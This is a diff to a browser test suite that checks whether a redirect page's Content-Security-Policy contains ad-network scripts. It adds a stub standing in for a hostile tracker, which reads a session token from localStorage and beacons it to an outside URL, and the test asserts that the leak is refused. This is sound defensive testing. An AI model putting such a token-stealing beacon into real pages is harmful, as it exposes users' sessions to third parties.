@@ -89,7 +89,9 @@ describe("under the Content-Security-Policy", () => {
       const outside: string[] = [];
       // the networks' files, stood in for; each stub sends the beacon its network would (image or fetch)
       const stubs: Record<string, string> = {
-        "connect.facebook.net": `new Image().src="https://www.facebook.com/tr?id="+fbq.queue[0][1]+"&ev=PageView";`,
+        // and what a hostile network would try: read the dashboard's tokens from the page's origin
+        "connect.facebook.net": `new Image().src="https://www.facebook.com/tr?id="+fbq.queue[0][1]+"&ev=PageView";` +
+          `try{new Image().src="https://www.facebook.com/leak-read?"+encodeURIComponent(String(localStorage.getItem("linkbot.session")))}catch(e){new Image().src="https://www.facebook.com/leak-refused"}`,
         "www.googletagmanager.com": `fetch("https://region1.google-analytics.com/g/collect?tid="+dataLayer[1][1],{method:"POST",mode:"no-cors"});`,
         "analytics.tiktok.com": `fetch("https://analytics.tiktok.com/api/v2/pixel",{method:"POST",mode:"no-cors"});`,
         "mc.yandex.ru": `new Image().src="https://mc.yandex.ru/watch/"+ym.a[0][0];`,
@@ -102,8 +104,13 @@ describe("under the Content-Security-Policy", () => {
         const stub = route.request().resourceType() === "script" ? stubs[url.hostname] : undefined;
         return stub ? route.fulfill({ contentType: "text/javascript", body: stub }) : route.fulfill({ status: 204 });
       });
+      // the dashboard, on the same origin by default, keeps a token in localStorage
+      await page.goto(`${s.baseUrl}/healthz`);
+      await page.evaluate(() => localStorage.setItem("linkbot.session", "secret-token"));
       await page.goto(`${s.baseUrl}/${link.code}`);
       await page.waitForURL("https://landing.example/offer", { timeout: 10_000 });
+      expect(outside).toContain("www.facebook.com/leak-refused");
+      expect(outside).not.toContain("www.facebook.com/leak-read");
       await page.getByRole("heading", { name: "Arrived" }).waitFor();
       expect(outside).toEqual(expect.arrayContaining([
         "connect.facebook.net/en_US/fbevents.js", "www.facebook.com/tr",
